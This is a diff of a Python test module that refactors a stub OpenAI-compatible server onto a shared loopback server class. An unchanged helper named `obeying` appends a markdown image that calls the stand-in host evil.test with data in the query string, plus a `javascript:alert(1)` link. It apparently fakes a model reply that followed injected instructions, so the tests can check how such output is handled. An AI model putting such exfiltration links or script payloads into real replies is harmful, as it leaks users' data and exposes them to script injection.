@@ -13,8 +13,9 @@ import time
 from collections.abc import Callable, Iterator, Sequence
 from contextlib import contextmanager, suppress
 from dataclasses import dataclass, field
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
+
+from tests.loopback import Handler, LoopbackServer
 
 SOURCE = re.compile(r'<source number="(\d+)"[^>]*>(.*?)</source>', re.DOTALL)
 
@@ -63,7 +64,7 @@ def obeying(prompt: str) -> str:
     return f"{prompt} ![x](http://evil.test/?d={len(prompt)}) [click](javascript:alert(1)) [1]"
 
 
-class StubOpenAI:
+class StubOpenAI(LoopbackServer):
     """`replies` by model name: one reply for good, or a sequence of which the last one stays."""
 
     def __init__(self, replies: dict[str, Reply | Sequence[Reply]]) -> None:
@@ -77,21 +78,8 @@ class StubOpenAI:
         self._lock = threading.Lock()
         self.running = 0
         self.most_running = 0
-        stub = self
-
-        class Handler(_Handler):
-            owner = stub
-
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self._server.daemon_threads = True
-        self.base_url = f"http://127.0.0.1:{self._server.server_port}/v1"
-
-    def start(self) -> None:
-        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()
-
-    def stop(self) -> None:
-        self._server.shutdown()
-        self._server.server_close()
+        super().__init__(_Handler)
+        self.base_url += "/v1"
 
     def next_reply(self, body: dict[str, Any]) -> Reply | None:
         with self._lock:
@@ -110,24 +98,15 @@ class StubOpenAI:
 @contextmanager
 def stub_openai(**replies: Reply | Sequence[Reply]) -> Iterator[StubOpenAI]:
     """A running stub; `-` in a model's name is written `_`."""
-    stub = StubOpenAI({name.replace("_", "-"): reply for name, reply in replies.items()})
-    stub.start()
-    try:
+    with StubOpenAI({name.replace("_", "-"): reply for name, reply in replies.items()}) as stub:
         yield stub
-    finally:
-        stub.stop()
 
 
-class _Handler(BaseHTTPRequestHandler):
+class _Handler(Handler):
     owner: StubOpenAI
     protocol_version = "HTTP/1.1"
 
-    def log_message(self, *_: object) -> None:
-        """Tests read `requests` instead."""
-
-    def do_POST(self) -> None:
-        length = int(self.headers.get("content-length", 0))
-        body = json.loads(self.rfile.read(length))
+    def answer(self, body: Any) -> None:
         reply = self.owner.next_reply({**body, "authorization": self.headers["authorization"]})
         if reply is None:
             reply = Reply(status=404, error="The model does not exist")
